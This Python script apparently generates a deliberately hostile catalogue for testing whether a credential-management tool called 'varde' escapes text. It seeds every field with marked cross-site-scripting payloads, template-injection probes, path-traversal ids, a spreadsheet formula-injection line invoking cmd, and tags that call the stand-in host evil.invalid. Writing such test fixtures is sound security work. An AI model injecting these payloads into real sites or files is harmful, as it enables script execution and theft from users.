# SPDX-License-Identifier: Apache-2.0
"""Writes a catalogue in which every text that a stranger controls tries to run.

Usage: hostile_catalogue.py FOLDER

FOLDER/catalogue holds the files to import, and beside it stand:

    markers.json        each payload by its marker, with the field it stands in
    learners.txt        the learners' ids, one on a line
    targets.txt         the qualifications' ids; courses.txt those of what they ask
    name.txt            what a person could give as their name; contact.txt whom to ask
    weights.json        weights of criteria with a version
    exceptions/*.txt    the arguments of "varde exception add", one on a line
    groups.csv          groups of learners for "varde stats --groups"

A payload begins with its marker, so that a page can be searched for it. Those that run set
window.__varde_pwned, open a dialog, ask https://evil.invalid for something, or become an element
with the id varde-pwned.
"""

import csv
import json
import sys
from itertools import pairwise
from pathlib import Path

RUN = "window.__varde_pwned=1"
GROW = "document.body.append(Object.assign(document.createElement(`b`),{id:`varde-pwned`}))"
ELSEWHERE = "https://evil.invalid"

# A #M is the marker.
TEMPLATES = [
    f"#M<script>{RUN};alert(1)</script>",
    f'#M"><img src=x onerror="{RUN}">',
    f"#M</title><script>{RUN}</script>",
    f"#M</style><script>{RUN}</script>",
    f"#M</svg><script>{RUN}</script>",
    '#M<a href="javascript:alert(1)" id="varde-pwned">here</a>',
    f"#M]]><script>{RUN}</script><![CDATA[",
    f'#M<!--<img src="--><img src={ELSEWHERE}/#M.png onerror={RUN}>//">',
    "#M{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    f"#M\u202e>tpircs/<\u2066<script>{GROW}</script>\u2069\u202c",
    f"#M\x07\x1b[31m\x0b\x7f\x9b<script\x0c>{RUN}</script>",
    f"#M&#60;script&#62;{RUN}&#60;/script&#62;&lt;b id=varde-pwned&gt;",
    f"#M' onmouseover='{RUN}' x='",
    f'#M" onfocus="{RUN}" autofocus tabindex="0" x="',
    f"#M<svg onload={RUN}><g id=varde-pwned></g></svg>",
    f"#M<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"#M[x](javascript:alert(1)) ![y]({ELSEWHERE}/#M.png) <{ELSEWHERE}>",
    f"#M;}}</style><style>body{{background:url({ELSEWHERE}/#M.css)}}",
    '#M<iframe srcdoc="<script>parent.__varde_pwned=1</script>"></iframe>',
    f"#M<form action={ELSEWHERE}><input name=x autofocus onfocus=confirm(1)></form>",
    f'#M<meta http-equiv="refresh" content="0;url={ELSEWHERE}/#M">',
    f"#M<link rel=stylesheet href={ELSEWHERE}/#M.css><base href={ELSEWHERE}/>",
    f"#M<details open ontoggle={RUN}><summary id=varde-pwned>x</summary></details>",
    "#M</td></tr></table><h1 id=varde-pwned>x</h1>",
    f"#M</desc></text><foreignObject><body onload={RUN}><b id=varde-pwned></b></body></foreignObject>",
    f"#M<animate onbegin={RUN} attributeName=x dur=1s /><set attributeName=onload to={RUN} />",
    f"#M</textarea></noscript></template></xmp></script><script>{RUN};prompt(1)</script>",
    f"#M\u2028`;{RUN};`${{{RUN}}}`\\u003cscript\\u003e\\",
    f"#M--><!]]><?xml-stylesheet href='{ELSEWHERE}/#M.xsl'?><script>{RUN}</script>",
    f"#M<object data={ELSEWHERE}/#M></object><embed src={ELSEWHERE}/#M><video src=x onerror={RUN}>",
    "#M" + "Unbroken" * 24 + f"<img/src/onerror={RUN}>",
    f"#M\ufffe\uffff\u200b\ufeff<s\u200bcript><b id=varde-pwned>{RUN}</b>",
    f'=HYPERLINK("{ELSEWHERE}/#M";"#M") +cmd|\' /C calc\'!A0',
]


class Payloads:
    """Gives every field a payload of its own and keeps account of which stands where."""

    def __init__(self) -> None:
        self.entries: dict[str, dict[str, str]] = {}

    def text(self, field: str) -> str:
        """Returns the next payload, for a field that takes any text."""
        return self.made(field, TEMPLATES[len(self.entries) % len(TEMPLATES)])

    def made(self, field: str, template: str) -> str:
        """Returns a payload made of a template."""
        marker = f"Zq{len(self.entries):03d}"
        text = template.replace("#M", marker)
        self.entries[marker] = {"field": field, "text": text}
        return text

    def word(self, field: str) -> str:
        """Returns a payload for a field whose lists are parted by bars, semicolons or blanks."""
        templates = [
            f"#M<img/src=x/onerror={RUN}>",
            f'#M"><svg/onload={RUN}>',
            f"#M'/onmouseover='{RUN}",
            f"#M<script>{RUN}</script>",
            "#M</script><b/id=varde-pwned>",
        ]
        return self.made(field, templates[len(self.entries) % len(templates)])

    def address(self, field: str) -> str:
        """Returns an https address that tries to leave its attribute."""
        templates = [
            f'{ELSEWHERE}/#M"onmouseover="{RUN}"x="',
            f"{ELSEWHERE}/#M'onfocus='{RUN}'autofocus='",
            f'{ELSEWHERE}/#M"><script>{RUN}</script>',
            f"{ELSEWHERE}/#M?a=1&lt;b&quot;#'<svg/onload={RUN}>",
        ]
        return self.made(field, templates[len(self.entries) % len(templates)])

    def script_address(self, field: str) -> str:
        """Returns an address that runs when it is followed."""
        templates = [
            f"javascript://%0a{RUN}//#M",
            f"data://text/html,<script>{RUN}</script>#M",
            f"JaVaScRiPt://%0a{RUN}//#M",
            f'vbscript://#M"onclick="{RUN}',
            f"javascript:{RUN}//#M",
        ]
        return self.made(field, templates[len(self.entries) % len(templates)])


class Catalogue:
    """A certificate with a table of requirements, a diploma with a rule file, and all around."""

    def __init__(self) -> None:
        give = self.give = Payloads()
        # A stacked qualification each way a rule can be written, and what they ask.
        self.certificate = give.text("credential id")
        self.diploma = give.text("credential id")
        self.courses = [give.text("credential id") for _ in range(14)]
        # Files are named after learners: two ids would leave the folder, one would be its index.
        self.learners = [give.text("learner id") for _ in range(6)] + [
            give.made("learner id", "../../#M/<b id=varde-pwned>.html"),
            "index",
            "..",
        ]
        self.providers = [give.text("provider") for _ in range(3)]
        # A URI has "://" here; "javascript:" and "data:" alone are turned away.
        self.skills = [
            give.made("skill uri", f"javascript://%0a{RUN}//#M"),
            give.made("skill uri", f"data://text/html,<script>{RUN}</script>#M"),
            give.made("skill uri", f'VBScript://#M"onclick="{RUN}'),
        ] + [give.address("skill uri") for _ in range(7)]
        self.outcomes = [give.text("outcome id") for _ in range(10)]
        self.tag = give.word("tag")
        self.scale = give.text("grade scale")
        self.grades = [give.word("grade") for _ in range(3)]
        self.framework = give.word("level framework")
        self.scheme = give.text("credit scheme")
        self.rules: list[str] = []
        self.requirements: dict[str, str] = {}

    def requirement(self, name: str) -> str:
        """Returns the id of a requirement, which is a payload of its own."""
        if name not in self.requirements:
            self.requirements[name] = self.give.text("requirement id")
        return self.requirements[name]

    # Tables

    def skill_rows(self) -> list[dict[str, str]]:
        framework, version = self.give.text("framework"), self.give.text("framework version")
        return [
            {
                "uri": uri,
                "label": self.give.text("skill label"),
                "label@de": self.give.text("skill label, German"),
                "kind": "group" if number == 9 else "skill",
                "framework": framework,
                "version": version,
                "alternatives": self.give.word("skill alternative"),
            }
            for number, uri in enumerate(self.skills)
        ]

    def credential_rows(self) -> list[dict[str, str]]:
        rows = [
            self.credential_row(self.certificate, "certificate", 0),
            self.credential_row(self.diploma, "diploma", 0),
        ]
        rows += [
            self.credential_row(course, "micro-credential", number)
            for number, course in enumerate(self.courses)
        ]
        return rows

    def credential_row(self, name: str, kind: str, number: int) -> dict[str, str]:
        give = self.give
        is_strange = number in (12, 13)
        return {
            "id": name,
            "title": give.text("title"),
            "title@de": give.text("title, German"),
            "kind": kind,
            "provider": self.providers[number % 3],
            "credits": "5",
            "scheme": self.scheme if is_strange else "ECTS",
            "hours": "125",
            "level": "6",
            "framework": self.framework if is_strange else "EQF",
            "field": give.word("field") if number % 4 == 3 else "061",
            "language": give.word("language") if number % 4 == 2 else "en",
            "mode": give.word("mode") if number % 4 == 1 else "online",
            "url": give.script_address("url with a script")
            if number % 5 == 4
            else give.address("url"),
            "status": give.word("status") if is_strange else "active",
            "country": give.word("country") if number % 4 == 0 else "NO",
            "tags": f"{self.tag} | {give.word('tag')}",
            "assessment": give.text("assessment"),
            "quality": give.text("quality"),
            "identifiers": f"{give.word('identifier')} | {give.address('identifier')}",
            "description": give.text("description"),
            "description@de": give.text("description, German"),
        }

    def outcome_rows(self) -> list[dict[str, str]]:
        return [
            {
                "id": outcome,
                "credential": self.courses[number],
                "text": self.give.text("outcome"),
                "text@de": self.give.text("outcome, German"),
            }
            for number, outcome in enumerate(self.outcomes)
        ]

    def alignment_rows(self) -> list[dict[str, str]]:
        return [
            {
                "outcome": outcome,
                "skill": self.skills[(number + step) % len(self.skills)],
                "weight": "0.8",
                "proficiency": f"{self.give.word('proficiency framework')}:6" if step else "EQF:6",
                "source": self.give.text("alignment source"),
            }
            for number, outcome in enumerate(self.outcomes)
            for step in range(2)
        ]

    def relation_rows(self) -> list[dict[str, str]]:
        courses = self.courses
        rows = [(course, "part-of", self.certificate) for course in courses[:6]]
        rows += [(self.certificate, "part-of", self.diploma)]
        rows += [(one, "precedes", other) for one, other in pairwise(courses[:5])]
        rows += [
            (courses[6], "recommends", courses[7]),
            (courses[8], "equivalent", courses[3]),
            (courses[9], "replaced-by", courses[10]),
            (courses[11], "requires", courses[0]),
        ]
        rows += [(skill, "broader", self.skills[9]) for skill in self.skills[:9]]
        return [dict(zip(("from", "relation", "to"), row)) for row in rows]

    def requirement_rows(self) -> list[dict[str, str]]:
        """The rule of the certificate and the admission to a course, as tables."""
        courses = self.courses
        certificate = [
            ("root", "", "all", {}),
            ("total", "root", "credits", {"minimum": "25", "unit": "ECTS", "of": "level >= 6"}),
            ("first", "total", "credential", {"of": courses[0]}),
            ("either", "total", "any", {}),
            ("second", "either", "credential", {"of": courses[1]}),
            ("third", "either", "credential", {"of": courses[2]}),
            (
                "share",
                "total",
                "share",
                {"minimum": "40%", "of": f'provider = "{quoted(self.providers[0])}"'},
            ),
            ("outcome", "root", "outcome", {"of": self.outcomes[4]}),
            ("skill", "root", "skill", {"of": self.skills[5], "minimum": "CEFR:B2"}),
            ("board", "root", "decision", {"of": self.give.text("decision")}),
        ]
        admission = [
            ("entry", "", "all", {}),
            ("before", "entry", "credential", {"of": courses[0]}),
            ("interview", "entry", "decision", {"of": self.give.text("decision")}),
        ]
        return [
            row
            for credential, use, nodes in (
                (self.certificate, "completion", certificate),
                (courses[3], "admission", admission),
            )
            for row in self.rule_rows(credential, use, nodes)
        ]

    def rule_rows(
        self, credential: str, use: str, nodes: list[tuple[str, str, str, dict[str, str]]]
    ) -> list[dict[str, str]]:
        rows = [
            {
                "credential": credential,
                "use": use,
                "id": self.requirement(f"{use} {name}"),
                "parent": self.requirement(f"{use} {parent}") if parent else "",
                "kind": kind,
                "title": self.give.text("requirement title"),
                "title@de": self.give.text("requirement title, German"),
                **more,
            }
            for name, parent, kind, more in nodes
        ]
        rows[0] |= {
            "version": self.give.text("rule version"),
            "validFrom": "2020-01-01",
            "source": self.give.script_address("rule source with a script")
            if use == "admission"
            else self.give.address("rule source"),
            "decidedBy": self.give.text("rule decided by"),
        }
        return rows

    def award_rows(self) -> list[dict[str, str]]:
        rows = []
        for number, learner in enumerate(self.learners):
            for step in range(min(number, 5) + 2):
                rows.append(self.award_row(learner, self.courses[step], number, step))
            rows[-1]["status"] = ["planned", "in-progress", "failed", "withdrawn"][number % 4]
        for learner in self.learners[3:]:
            rows.append({**self.award_row(learner, self.certificate, 1, 9), "kind": "certificate"})
            rows.append(self.award_row(learner, self.give.text("award of an unknown id"), 1, 8))
        return rows

    def award_row(self, learner: str, credential: str, number: int, step: int) -> dict[str, str]:
        give = self.give
        is_strange = step == 2
        return {
            "learner": learner,
            "credential": credential,
            "date": f"2025-{step + 1:02d}-{number + 10}",
            "status": "completed",
            "grade": give.word("award grade") if is_strange else self.grades[step % 3],
            "scale": give.word("award scale") if is_strange else self.scale,
            "credits": "5",
            "scheme": give.word("award scheme") if is_strange else "ECTS",
            "level": f"{give.word('award framework')}:6" if is_strange else "6",
            "field": give.word("award field"),
            "provider": give.text("award provider") if is_strange else self.providers[step % 3],
            "kind": "micro-credential",
            "expires": "2026-01-31" if step == 1 and number % 2 else "",
            "verification": ["verified", "unverified", "failed"][step % 3],
            "used": give.word("award used for") if step == 3 else "",
        }

    def conversion_rows(self) -> list[dict[str, str]]:
        return [
            {
                "from": self.scheme,
                "to": "ECTS",
                "factor": "0.5",
                "source": self.give.script_address("conversion source"),
            }
        ]

    # Rule files

    def diploma_rule(self) -> dict[str, object]:
        """The rule of the diploma, as a rule file with everything such a file can say."""
        give, courses = self.give, self.courses

        def texts(field: str) -> dict[str, str]:
            return {"en": give.text(field), "de": give.text(f"{field}, German")}

        return {
            "schema": "varde/rule/1",
            "credential": self.diploma,
            "id": give.text("rule id"),
            "title": texts("rule title"),
            "version": give.text("rule file version"),
            "source": give.script_address("rule file source"),
            "secondary": True,
            "decided-by": give.text("rule file decided by"),
            "awarded": "automatic",
            "counts": "not kind = badge",
            "scales": {
                self.scale: {
                    "pass": self.grades[0],
                    "grades": [{grade: point} for point, grade in enumerate(self.grades)],
                },
            },
            "recognition": {
                "own": [self.providers[0]],
                "recognised": [
                    self.providers[1],
                    {
                        "provider": self.providers[2],
                        "accord": give.text("accord"),
                        "provisional": True,
                    },
                ],
            },
            "equivalences": [
                {"credential": courses[5], "counts-for": courses[6], "overlap": "85%"}
            ],
            "requirement": [
                {
                    "id": self.requirement("diploma total"),
                    "title": texts("rule file requirement title"),
                    "credits": 30,
                    "from": "level >= 6",
                    "with": [
                        {
                            "title": texts("rule file requirement title"),
                            "all": [courses[0], courses[6]],
                        },
                        {
                            "title": texts("rule file requirement title"),
                            "choose": 1,
                            "of": [courses[1], courses[7]],
                        },
                        {
                            "title": texts("rule file requirement title"),
                            "share": "at least 30%",
                            "from": f'provider = "{quoted(self.providers[0])}"',
                        },
                        {
                            "title": texts("rule file requirement title"),
                            "mean": 1,
                            "scale": self.scale,
                        },
                        {"title": texts("rule file requirement title"), "within": "3 years"},
                        {
                            "title": texts("rule file requirement title"),
                            "distinct": 2,
                            "by": "provider",
                        },
                    ],
                },
                {
                    "title": texts("rule file requirement title"),
                    "order": courses[:3],
                    "shared": True,
                },
                {"title": texts("rule file requirement title"), "skill": self.skills[1]},
                {"title": texts("rule file requirement title"), "outcome": self.outcomes[8]},
                {"title": texts("rule file requirement title"), "not-before": "2027-01-01"},
                {"title": texts("rule file requirement title"), "none": "kind = degree"},
                {
                    "id": self.requirement("diploma board"),
                    "title": texts("rule file requirement title"),
                    "decision": give.text("rule file decision"),
                },
            ],
        }

    # Beside the catalogue

    def exceptions(self) -> list[list[str]]:
        """One of each kind of exception, for a learner each."""
        certificate, courses = f"{self.certificate}/completion", self.courses
        made = [
            ["waive", self.requirement("completion skill")],
            ["substitute", courses[4], "--for", courses[2]],
            ["block", courses[0]],
            ["change", self.requirement("completion total"), "--minimum", "15"],
            ["insert", courses[1], "--into", self.requirement("completion first")],
        ]
        return [
            arguments
            + [
                "--learner",
                self.learners[number + 1],
                "--rule",
                certificate,
                "--who",
                self.give.text("exception who"),
                "--why",
                self.give.text("exception why"),
                "--when",
                "2026-01-15",
            ]
            for number, arguments in enumerate(made)
        ]

    def group_rows(self) -> list[dict[str, str]]:
        groups = [self.give.text("group"), self.give.text("group")]
        return [
            {"learner": learner, "region": groups[number % 2]}
            for number, learner in enumerate(self.learners)
        ]


def quoted(text: str) -> str:
    """A text as it stands between the quotes of a selector."""
    return text.replace("\\", "\\\\").replace('"', '\\"')


def write_table(path: Path, rows: list[dict[str, str]]) -> None:
    columns = list(dict.fromkeys(column for row in rows for column in row))
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, columns)
        writer.writeheader()
        writer.writerows(rows)


def write_lines(path: Path, entries: list[str]) -> None:
    path.write_text("".join(f"{entry}\n" for entry in entries), encoding="utf-8")


def main(folder: Path) -> None:
    catalogue = Catalogue()
    files, exceptions = folder / "catalogue", folder / "exceptions"
    for path in (files, exceptions):
        path.mkdir(parents=True, exist_ok=True)
    write_table(files / "skills.csv", catalogue.skill_rows())
    write_table(files / "credentials.csv", catalogue.credential_rows())
    write_table(files / "outcomes.csv", catalogue.outcome_rows())
    write_table(files / "alignments.csv", catalogue.alignment_rows())
    write_table(files / "relations.csv", catalogue.relation_rows())
    write_table(files / "requirements.csv", catalogue.requirement_rows())
    write_table(files / "awards.csv", catalogue.award_rows())
    write_table(files / "conversions.csv", catalogue.conversion_rows())
    (files / "diploma.json").write_text(
        json.dumps(catalogue.diploma_rule(), ensure_ascii=False, indent=2), encoding="utf-8"
    )
    for number, arguments in enumerate(catalogue.exceptions()):
        write_lines(exceptions / f"{number}.txt", arguments)
    write_table(folder / "groups.csv", catalogue.group_rows())
    write_lines(folder / "learners.txt", catalogue.learners)
    write_lines(folder / "targets.txt", [catalogue.certificate, catalogue.diploma])
    write_lines(folder / "courses.txt", catalogue.courses)
    for option in ("name", "contact"):
        write_lines(folder / f"{option}.txt", [catalogue.give.text(option)])
    (folder / "weights.json").write_text(
        json.dumps(
            {
                "version": catalogue.give.text("weights version"),
                "weights": {"coverage": 1, "progress": 1},
            }
        )
    )
    (folder / "markers.json").write_text(
        json.dumps(catalogue.give.entries, indent=1), encoding="utf-8"
    )


if __name__ == "__main__":
    main(Path(sys.argv[1]))
